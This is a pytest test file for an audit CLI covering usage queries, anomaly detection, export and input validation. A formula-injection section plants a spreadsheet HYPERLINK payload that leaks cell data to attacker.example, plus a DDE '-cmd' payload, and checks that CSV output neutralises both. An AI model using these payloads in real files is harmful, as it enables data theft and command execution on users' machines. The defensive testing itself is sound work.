"""``tokenbroker audit ...`` through click's CliRunner, against moto provisioned from
template.yaml: usage (filters, pages, formats), summary and anomalies (from aggregates
counted by the real aggregates service), export (every record once, atomic file,
bounded memory), verify (real digests sealed with KMS) and bad input."""

from __future__ import annotations

import csv
import io
import json
import os
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import boto3
import pytest
from boto3.dynamodb.types import TypeDeserializer
from click.testing import CliRunner, Result

from tokenbroker import bootstrap
from tokenbroker.adapters.usage import usage_item
from tokenbroker.cli import audit as audit_cli
from tokenbroker.cli import audit_time
from tokenbroker.cli import deployment as cli_deployment
from tokenbroker.cli.audit_render import USAGE_FIELDS
from tokenbroker.cli.deployment import load_settings
from tokenbroker.cli.main import cli
from tokenbroker.domain.errors import TemporarilyUnavailable
from tokenbroker.domain.models import UsageRecord
from tokenbroker.local.provision import Deployment
from tokenbroker.settings import Settings

from . import (
    DEV_A1,
    HOUR_MS,
    REGION,
    T0,
    Ledger,
    iso,
    ledger,
    provisioned,
    record,
    standard_records,
)

# Until cli/main.py registers the group (the same two lines this test runs).
if "audit" not in cli.commands:
    cli.add_command(audit_cli.audit)

STACK = "audit-cli"
DAY_MS = 24 * HOUR_MS
SINCE, UNTIL = iso(T0), iso(T0 + 3 * HOUR_MS)
#: the anomaly scenario's window: a day after the standard records
W0 = T0 + DAY_MS
#: the verify scenarios: days before the standard records, sealed explicitly
V0 = T0 - 5 * DAY_MS
RECORD_KEYS = {f.name for f in USAGE_FIELDS}
_des = TypeDeserializer()


@dataclass
class Stack:
    deployment: Deployment
    ledger: Ledger
    settings: Settings


def _clean_env(mp: pytest.MonkeyPatch, tmp: Path) -> None:
    for name in list(os.environ):
        if name.startswith(("AWS_", "TOKENBROKER_")):
            mp.delenv(name)
    for name, value in {
        "AWS_ACCESS_KEY_ID": "testing",
        "AWS_SECRET_ACCESS_KEY": "testing",
        "AWS_DEFAULT_REGION": REGION,
        "AWS_CONFIG_FILE": str(tmp / "no-config"),
        "AWS_SHARED_CREDENTIALS_FILE": str(tmp / "no-credentials"),
        "AWS_EC2_METADATA_DISABLED": "true",
    }.items():
        mp.setenv(name, value)


@pytest.fixture(scope="module")
def stack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stack]:
    """One deployment for the module: the standard records in the usage table and in the
    aggregates; the anomaly scenario in the aggregates only (moto runs no stream, so the
    aggregates are fed here, record by record, as the stream function would)."""
    with pytest.MonkeyPatch.context() as mp:
        _clean_env(mp, tmp_path_factory.mktemp("aws"))
        with provisioned(STACK) as deployment:
            book = ledger(deployment)
            book.write(standard_records())
            settings = load_settings(STACK, boto3.Session())
            count_aggregates(settings, book.records)
            count_aggregates(settings, anomaly_scenario())
            yield Stack(deployment, book, settings)


@pytest.fixture(autouse=True)
def _environment(stack: Stack, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    _clean_env(monkeypatch, tmp_path)


def count_aggregates(settings: Settings, records: list[UsageRecord]) -> None:
    """As the stream function would (moto runs no stream), in batches of 100."""
    service = bootstrap.build(settings, aws=boto3.client).aggregates
    images = [{k: _des.deserialize(v) for k, v in usage_item(r).items()} for r in records]
    for start in range(0, len(images), 100):
        assert service.count_batch(images[start : start + 100]).malformed == ()


def run(*args: str) -> Result:
    return CliRunner().invoke(cli, ["--stack", STACK, "audit", *args], prog_name="tokenbroker")


def ok(*args: str) -> Result:
    result = run(*args)
    assert result.exit_code == 0, (result.output, result.exception)
    return result


def ok_json(*args: str) -> Any:
    return json.loads(ok(*args, "--output", "json").stdout)


def assert_one_line_error(result: Result, exit_code: int, *fragments: str) -> str:
    assert result.exit_code == exit_code, (result.output, result.exception)
    assert result.exception is None or isinstance(result.exception, SystemExit)
    assert result.stdout == ""
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1, result.stderr
    assert lines[0].startswith("Error: ")
    assert "Traceback" not in result.output
    for fragment in fragments:
        assert fragment in lines[0], lines[0]
    return lines[0]


# ---------------------------------------------------------------------------- help


@pytest.mark.parametrize("command", ["", *audit_cli.audit.commands])
def test_every_audit_command_explains_itself_with_an_example_without_touching_aws(
    command: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    def no_aws(region: str | None) -> boto3.Session:
        raise AssertionError("--help must not touch AWS")

    monkeypatch.setattr(cli_deployment, "new_session", no_aws)
    result = CliRunner().invoke(cli, ["audit", *([command] if command else []), "--help"])
    assert result.exit_code == 0, result.output
    assert "Example" in result.stdout


# ---------------------------------------------------------------------------- usage


def test_usage_by_principal_lists_its_records_newest_first_with_the_ledger_schema(
    stack: Stack,
) -> None:
    rows = ok_json("usage", "--principal", "bob", "--since", SINCE, "--until", UNTIL)
    assert [r["record_id"] for r in rows] == stack.ledger.expected(
        T0, T0 + 3 * HOUR_MS, principal="bob"
    )
    assert all(set(r) == RECORD_KEYS for r in rows)
    assert rows[0]["time"] == audit_time.iso_ms(rows[0]["at_ms"])
    assert rows[0]["time"].endswith("Z")


def test_usage_filters_combine(stack: Stack) -> None:
    rows = ok_json(
        "usage",
        *("--principal", "alice", "--model", "chat", "--decision", "deny"),
        *("--since", SINCE, "--until", UNTIL, "--limit", "1000"),
    )
    expected = stack.ledger.expected(
        T0, T0 + 3 * HOUR_MS, principal="alice", model="chat", decision="deny"
    )
    assert [r["record_id"] for r in rows] == expected
    assert expected
    assert {(r["principal"], r["resource"], r["decision"]) for r in rows} == {
        ("alice", "chat", "deny")
    }


def test_usage_pages_follow_the_printed_next_token_without_repeats_or_gaps(stack: Stack) -> None:
    args = ["usage", "--device", DEV_A1, "--since", SINCE, "--until", UNTIL, "--limit", "7"]
    seen: list[str] = []
    token = ""
    for _ in range(100):
        result = ok(*args, *(["--next-token", token] if token else []), "--output", "json")
        seen += [r["record_id"] for r in json.loads(result.stdout)]
        notes = result.stderr.strip().splitlines()
        if not notes:
            break
        (note,) = notes  # stdout stays parseable; the next page's command is on stderr
        token = note.rsplit(" ", 1)[1]
    assert seen == stack.ledger.expected(T0, T0 + 3 * HOUR_MS, device=DEV_A1)
    assert len(seen) > 7


def test_usage_as_a_table_shows_iso_times_and_the_next_page_command_below(stack: Stack) -> None:
    out = ok("usage", "--principal", "carol", "--since", SINCE, "--until", UNTIL, "--limit", "3")
    lines = out.stdout.splitlines()
    assert lines[0].split() == [
        "time",
        "event",
        "decision",
        "reason",
        "principal",
        "jkt",
        "resource",
        "source_ip",
        "record_id",
    ]
    assert lines[2].startswith("2026-11-27T")
    assert len(lines) == 2 + 3 + 2
    assert lines[-1].startswith("more records: repeat the command with --next-token ")


def test_usage_as_csv_has_a_header_and_one_row_per_record(stack: Stack) -> None:
    out = ok(*("usage", "--token", "tok-carol-3", "--since", SINCE, "--until", UNTIL, "-o", "csv"))
    rows = list(csv.DictReader(io.StringIO(out.stdout)))
    expected = stack.ledger.expected(T0, T0 + 3 * HOUR_MS, token="tok-carol-3")
    assert [r["record_id"] for r in rows] == expected
    assert set(rows[0]) == RECORD_KEYS


@pytest.mark.parametrize("command", ["usage", "summary"])
def test_an_unknown_principal_is_an_empty_list_and_exit_0(command: str) -> None:
    args = [command, "--principal", "nobody", "--since", SINCE, "--until", UNTIL]
    assert ok_json(*args) == []
    assert ok(*args).stdout == "no records\n"
    assert ok(*args, "-o", "csv").stdout.count("\n") == 1  # the header only


def test_a_range_without_records_is_empty_for_every_listing(stack: Stack) -> None:
    empty = ("--since", "2020-01-01T00:00:00Z", "--until", "2020-01-01T01:00:00Z")
    assert ok_json("usage", *empty) == []
    assert ok_json("summary", *empty) == []
    assert ok_json("anomalies", *empty) == []
    assert ok("anomalies", *empty).stdout == "no anomalies\n"


# ---------------------------------------------------------------------------- bad input


BAD_TIMES = ["yesterday", "2026-13-01", "15x", "2026-11-27T25:00:00Z", "-5m", "", "1e3h"]


@pytest.mark.parametrize("option", ["--since", "--until"])
@pytest.mark.parametrize("value", BAD_TIMES)
def test_a_malformed_time_exits_2_with_one_line_and_an_example_before_touching_aws(
    option: str, value: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    def no_aws(region: str | None) -> boto3.Session:
        raise AssertionError("bad input must be refused before AWS is touched")

    monkeypatch.setattr(cli_deployment, "new_session", no_aws)
    for command in ("usage", "summary", "anomalies", "verify"):
        line = assert_one_line_error(run(command, option, value), 2, option, "invalid time")
        assert "2026-11-27T04:00:00Z" in line
        assert "15m" in line


@pytest.mark.parametrize(
    ("since", "until"),
    [
        ("2026-11-27T04:00:00Z", "2026-11-27T04:00:00Z"),
        ("2026-11-28", "2026-11-27"),
        ("now", "1h"),
        ("1h", "2h"),
    ],
)
@pytest.mark.parametrize("command", ["usage", "summary", "anomalies", "verify", "export"])
def test_a_range_that_does_not_start_before_it_ends_exits_2_with_one_line(
    command: str, since: str, until: str, tmp_path: Path
) -> None:
    extra = ["--to", str(tmp_path / "x.jsonl")] if command == "export" else []
    assert_one_line_error(
        run(command, "--since", since, "--until", until, *extra),
        2,
        "--since",
        "must be before --until",
    )
    assert not list(tmp_path.iterdir())


@pytest.mark.parametrize("token", ["garbage", "eyJ2IjoxfQ", "!!"])
def test_a_malformed_next_token_exits_2_with_one_line(token: str) -> None:
    result = run("usage", "--principal", "bob", "--next-token", token)
    assert_one_line_error(result, 2, "--next-token")


def test_a_next_token_from_other_filters_exits_2(stack: Stack) -> None:
    first = ok("usage", "--principal", "bob", "--since", SINCE, "--until", UNTIL, "--limit", "2")
    token = first.stdout.strip().rsplit(" ", 1)[1]
    result = run("usage", "--principal", "alice", "--since", SINCE, "--next-token", token)
    assert_one_line_error(result, 2, "other filters")


def test_an_aws_failure_is_one_line_and_exit_1(monkeypatch: pytest.MonkeyPatch) -> None:
    from tokenbroker.adapters.archive_index import HotIndex

    def down(*args: Any, **kw: Any) -> Any:
        raise TemporarilyUnavailable("dynamodb:Query failed (ProvisionedThroughputExceeded)")

    monkeypatch.setattr(HotIndex, "hours", down)
    assert_one_line_error(run("usage", "--principal", "bob"), 1, "dynamodb:Query failed")


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("now", 1_800_000_000_000),
        ("15m", 1_800_000_000_000 - 15 * 60_000),
        ("2h", 1_800_000_000_000 - 2 * HOUR_MS),
        ("7d ago", 1_800_000_000_000 - 7 * DAY_MS),
        ("1w", 1_800_000_000_000 - 7 * DAY_MS),
        ("2026-11-27", T0),
        ("2026-11-27T04:00:00Z", T0 + 4 * HOUR_MS),
        ("2026-11-27T04:00:00", T0 + 4 * HOUR_MS),  # no offset: UTC
        ("2026-11-27T06:00:00+02:00", T0 + 4 * HOUR_MS),
        ("2026-11-27T04:00:00.250Z", T0 + 4 * HOUR_MS + 250),
    ],
)
def test_times_are_iso_8601_dates_relative_or_now(text: str, expected: int) -> None:
    assert audit_time.parse_time(text, 1_800_000_000_000, "--since") == expected


def test_the_range_defaults_to_the_24_hours_before_now() -> None:
    assert audit_cli.time_range(None, None, 5 * DAY_MS) == (4 * DAY_MS, 5 * DAY_MS)
    assert audit_cli.time_range("2h", None, 5 * DAY_MS) == (5 * DAY_MS - 2 * HOUR_MS, 5 * DAY_MS)


# ---------------------------------------------------------------------------- summary


def test_summary_gives_each_principals_aggregates_over_the_range(stack: Stack) -> None:
    rows = ok_json("summary", "--since", SINCE, "--until", UNTIL)
    assert [r["principal"] for r in rows] == ["alice", "bob", "carol"]
    for row in rows:
        mine = [r for r in stack.ledger.records if r.principal == row["principal"]]
        requests = [r for r in mine if r.event.value == "request"]
        assert row["requests"] == len(requests)
        assert row["denied"] == sum(r.decision.value == "deny" for r in requests)
        assert row["allowed"] == row["requests"] - row["denied"]
        assert row["devices"] == sorted({r.jkt for r in requests})
        assert row["models"] == dict(sorted(Counter(r.resource for r in requests).items()))
        assert row["first_seen_ms"] == min(r.at_ms for r in mine)
        assert row["first_seen"] == audit_time.iso_ms(row["first_seen_ms"])


def test_summary_of_one_principal_as_a_table_and_csv(stack: Stack) -> None:
    table = ok("summary", "--since", SINCE, "--until", UNTIL, "--principal", "bob").stdout
    header, _, bob = table.splitlines()
    assert header.split()[:4] == ["principal", "requests", "allowed", "denied"]
    assert bob.split()[:2] == ["bob", "24"]
    assert "invalid_token=6" in bob
    rows = list(csv.DictReader(io.StringIO(ok("summary", "--since", SINCE, "-o", "csv").stdout)))
    assert all(r["principal"] for r in rows)


# ---------------------------------------------------------------------------- anomalies


def anomaly_scenario() -> list[UsageRecord]:
    """Two hours from W0: a client used from four devices and six addresses, a replayed
    proof, a revoked device still trying, a burst of denials, a principal just under
    every threshold, and two principals with a week of history (one far above it)."""
    out: list[UsageRecord] = []

    def at(minute: int) -> int:
        return W0 + minute * 60_000

    for i in range(8):
        out.append(record(at(i), "sharer", device=f"dev-s{i % 4}", source_ip=f"198.51.100.{i % 6}"))
    out.append(record(at(10), "replayer", device="dev-r1"))
    out.append(
        record(at(11), "replayer", device="dev-r1", decision="deny", reason="proof_replayed")
    )
    for i in range(2):
        out.append(
            record(at(20 + i), "revoked", device="dev-v1", decision="deny", reason="device_revoked")
        )
    out.extend(record(at(65 + i), "burster", decision="deny", device="dev-b9") for i in range(20))
    for i in range(19):  # 3 devices, 5 addresses, 19 denials in one hour: nothing to flag
        out.append(
            record(
                at(30 + i),
                "quiet",
                device=f"dev-q{i % 3}",
                source_ip=f"203.0.113.{i % 5}",
                decision="deny",
            )
        )
    for principal, today in (("steady", 12), ("calm", 4)):
        for day in range(2, 7):  # two a day on five of the seven days before
            out.extend(
                record(W0 - day * DAY_MS + i * 60_000, principal, device="dev-h1") for i in range(2)
            )
        out.extend(record(at(i % 100), principal, device="dev-h1") for i in range(today))
    return out


WINDOW = ("--since", iso(W0), "--until", iso(W0 + 2 * HOUR_MS))


def test_anomalies_flag_shared_replayed_revoked_bursting_and_unusual_principals() -> None:
    rows = ok_json("anomalies", *WINDOW)
    found = {(r["principal"], r["kind"]) for r in rows}
    assert found == {
        ("sharer", "many_devices"),
        ("sharer", "many_source_ips"),
        ("replayer", "proof_replayed"),
        ("revoked", "revoked_device_used"),
        ("burster", "denial_burst"),
        ("steady", "above_baseline"),
    }
    by = {(r["principal"], r["kind"]): r for r in rows}
    devices = by[("sharer", "many_devices")]
    assert devices["evidence"]["devices"] == 4
    assert devices["evidence"]["threshold"] == 3
    assert devices["evidence"]["device_ids"] == ["dev-s0", "dev-s1", "dev-s2", "dev-s3"]
    assert devices["first_seen_ms"] == W0
    assert devices["last_seen_ms"] == W0 + 7 * 60_000
    assert by[("sharer", "many_source_ips")]["evidence"]["source_ips"] == 6
    assert by[("replayer", "proof_replayed")]["evidence"]["replays"] == 1
    assert by[("revoked", "revoked_device_used")]["evidence"]["attempts"] == 2
    burst = by[("burster", "denial_burst")]["evidence"]
    assert (burst["max_denials_in_an_hour"], burst["burst_hours"]) == (20, 1)
    baseline = by[("steady", "above_baseline")]["evidence"]
    assert (baseline["requests"], baseline["baseline_daily_median"]) == (12, 2.0)
    assert set(rows[0]) >= {"kind", "principal", "evidence", "first_seen", "last_seen"}


def test_anomaly_thresholds_are_options() -> None:
    rows = ok_json(
        "anomalies",
        *WINDOW,
        *("--max-devices", "4", "--max-ips", "4", "--max-denials", "19"),
        *("--baseline-factor", "7"),
    )
    found = {(r["principal"], r["kind"]) for r in rows}
    assert ("sharer", "many_devices") not in found
    assert {("quiet", "many_source_ips"), ("quiet", "denial_burst")} <= found
    assert ("steady", "above_baseline") not in found


def test_anomalies_as_a_table_show_the_evidence_as_words() -> None:
    lines = ok("anomalies", *WINDOW).stdout.splitlines()
    assert lines[0].split() == ["kind", "principal", "evidence", "first_seen", "last_seen"]
    sharer = next(line for line in lines if line.startswith("many_devices"))
    assert "devices=4 threshold=3 device_ids=dev-s0,dev-s1,dev-s2,dev-s3" in sharer


# ---------------------------------------------------------------------------- export


def test_export_writes_every_record_of_the_range_once_as_json_lines(
    stack: Stack, tmp_path: Path
) -> None:
    target = tmp_path / "out.jsonl"
    since, until = T0 + HOUR_MS // 2, T0 + 2 * HOUR_MS + 6
    result = ok(
        "export",
        "--since",
        audit_time.iso_ms(since),
        "--until",
        audit_time.iso_ms(until),
        "--to",
        str(target),
    )
    lines = target.read_text().splitlines()
    ids = [json.loads(line)["record_id"] for line in lines]
    assert ids == stack.ledger.oldest_first(since, until)
    assert len(set(ids)) == len(ids)
    assert result.stdout == ""
    assert result.stderr.strip().endswith(f"exported {len(ids)} records to {target}")
    assert os.listdir(tmp_path) == ["out.jsonl"]  # the temporary file was renamed


def test_export_as_csv_has_the_record_header_and_one_row_per_record(
    stack: Stack, tmp_path: Path
) -> None:
    target = tmp_path / "out.csv"
    ok("export", "--since", SINCE, "--until", UNTIL, "--to", str(target), "--output", "csv")
    with target.open(newline="") as f:
        reader = csv.DictReader(f)
        rows = list(reader)
    assert reader.fieldnames == [f.name for f in USAGE_FIELDS]
    assert [r["record_id"] for r in rows] == stack.ledger.oldest_first(T0, T0 + 3 * HOUR_MS)


def test_export_to_dash_streams_to_standard_output(stack: Stack) -> None:
    since, until = T0 + HOUR_MS, T0 + HOUR_MS + 2000
    result = ok(
        "export",
        "--since",
        audit_time.iso_ms(since),
        "--until",
        audit_time.iso_ms(until),
        "--to",
        "-",
    )
    ids = [json.loads(line)["record_id"] for line in result.stdout.splitlines()]
    assert ids == stack.ledger.oldest_first(since, until)
    assert len(ids) == 12  # the run of equal times


def test_a_failed_export_leaves_no_file_and_exits_1(
    stack: Stack, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from tokenbroker.adapters.archive_index import HotIndex

    real = HotIndex.records
    calls = Counter[str]()

    def flaky(self: HotIndex, hour: str, entries: Any) -> Any:
        calls["n"] += 1
        if hour == "2026-11-27T01":  # the second hour: the first is written
            raise TemporarilyUnavailable("dynamodb:BatchGetItem failed (InternalServerError)")
        return real(self, hour, entries)

    monkeypatch.setattr(HotIndex, "records", flaky)
    target = tmp_path / "out.jsonl"
    target.write_text("previous export\n")
    result = run("export", "--since", SINCE, "--until", UNTIL, "--to", str(target))
    assert result.exit_code == 1
    assert result.stderr.strip().splitlines()[-1].startswith("Error: dynamodb:BatchGetItem failed")
    assert target.read_text() == "previous export\n"  # untouched
    assert os.listdir(tmp_path) == ["out.jsonl"]


def test_export_into_a_missing_directory_exits_1_with_one_line(tmp_path: Path) -> None:
    result = run("export", "--since", SINCE, "--until", UNTIL, "--to", str(tmp_path / "no/x"))
    assert_one_line_error(result, 1, "cannot write")


# ------------------------------------------------- formula injection, filters (issues 8, 14)

X0 = T0 - 10 * DAY_MS  # a quiet day of its own
PLANTED = '=HYPERLINK("https://attacker.example/?leak="&A1,"click")'


@pytest.fixture(scope="module")
def planted(stack: Stack) -> UsageRecord:
    """A token thief's request: its User-Agent is a spreadsheet formula."""
    thief = replace(
        record(X0 + 5000, "mallory", device="dev-m1", decision="deny", source_ip="203.0.113.9"),
        user_agent=PLANTED,
        reason="-cmd|' /C calc'!A0",
    )
    stack.ledger.write([thief])
    count_aggregates(stack.settings, [thief])
    return thief


def test_a_formula_planted_as_user_agent_is_inert_in_usage_csv(planted: UsageRecord) -> None:
    out = ok("usage", "--since", iso(X0), "--until", iso(X0 + HOUR_MS), "-o", "csv").stdout
    [row] = list(csv.DictReader(io.StringIO(out)))
    assert row["user_agent"] == "'" + PLANTED  # text to a spreadsheet, not a formula
    assert row["reason"] == "'" + planted.reason
    assert row["principal"] == "mallory"  # ordinary cells are untouched
    # JSON keeps the data verbatim: only spreadsheet-bound output is neutralised
    [raw] = ok_json("usage", "--since", iso(X0), "--until", iso(X0 + HOUR_MS))
    assert raw["user_agent"] == PLANTED


def test_a_formula_planted_as_user_agent_is_inert_in_export_csv(
    planted: UsageRecord, tmp_path: Path
) -> None:
    target = tmp_path / "x.csv"
    since, until = iso(X0), iso(X0 + HOUR_MS)
    ok("export", "--since", since, "--until", until, "--to", str(target), "--output", "csv")
    with target.open(newline="") as f:
        [row] = list(csv.DictReader(f))
    assert row["user_agent"] == "'" + PLANTED
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_every_formula_start_is_neutralised_by_the_one_csv_helper(cell: str) -> None:
    from tokenbroker.cli.output import Field, to_csv

    assert to_csv([{"v": cell}], [Field("v")]).splitlines()[1].strip('"').startswith("'")


def test_export_keeps_format_as_a_deprecated_name_of_output(
    planted: UsageRecord, tmp_path: Path
) -> None:
    target = tmp_path / "old.csv"
    since, until = iso(X0), iso(X0 + HOUR_MS)
    ok("export", "--since", since, "--until", until, "--to", str(target), "--format", "csv")
    assert target.read_text().startswith("time,record_id,")
    result = run(
        *("export", "--since", since, "--until", until, "--to", str(target)),
        *("--format", "csv", "--output", "jsonl"),
    )
    assert_one_line_error(result, 2, "--format", "--output")


def test_export_filters_by_principal_device_and_model(stack: Stack) -> None:
    for flag, value, name in (
        ("--principal", "bob", "principal"),
        ("--device", DEV_A1, "device"),
        ("--model", "embed", "model"),
    ):
        result = ok("export", "--since", SINCE, "--until", UNTIL, "--to", "-", flag, value)
        ids = [json.loads(line)["record_id"] for line in result.stdout.splitlines()]
        assert ids == stack.ledger.expected(T0, T0 + 3 * HOUR_MS, **{name: value})[::-1]
        assert ids


@pytest.mark.parametrize("device", ["short", "x" * 44, "a" * 42 + "!"])
def test_a_malformed_device_thumbprint_exits_2(device: str) -> None:
    for command in ("usage", "export"):
        args = [command, "--device", device, *(["--to", "-"] if command == "export" else [])]
        assert_one_line_error(run(*args), 2, "--device", "thumbprint")


def test_usage_filters_by_event_actor_and_source_ip(stack: Stack, planted: UsageRecord) -> None:
    span = ("--since", iso(X0), "--until", UNTIL, "--limit", "1000")
    enrolled = ok_json("usage", "--event", "device_enrolled", *span)
    assert [r["record_id"] for r in enrolled] == [
        r.record_id
        for r in sorted(stack.ledger.records, key=lambda r: (r.at_ms, r.record_id), reverse=True)
        if r.event == "device_enrolled"
    ]
    [thief] = ok_json("usage", "--source-ip", "203.0.113.9", *span)
    assert thief["record_id"] == planted.record_id
    assert ok_json("usage", "--actor", "arn:aws:iam::123456789012:user/nobody", *span) == []
    assert_one_line_error(run("usage", "--event", "teleported"), 2, "--event", "device_revoked")


def test_anomalies_for_one_principal(stack: Stack) -> None:
    span = ("--since", iso(W0), "--until", iso(W0 + DAY_MS))
    every = ok_json("anomalies", *span)
    only = ok_json("anomalies", *span, "--principal", "sharer")
    assert only == [a for a in every if a["principal"] == "sharer"]
    assert only
    assert len(only) < len(every)
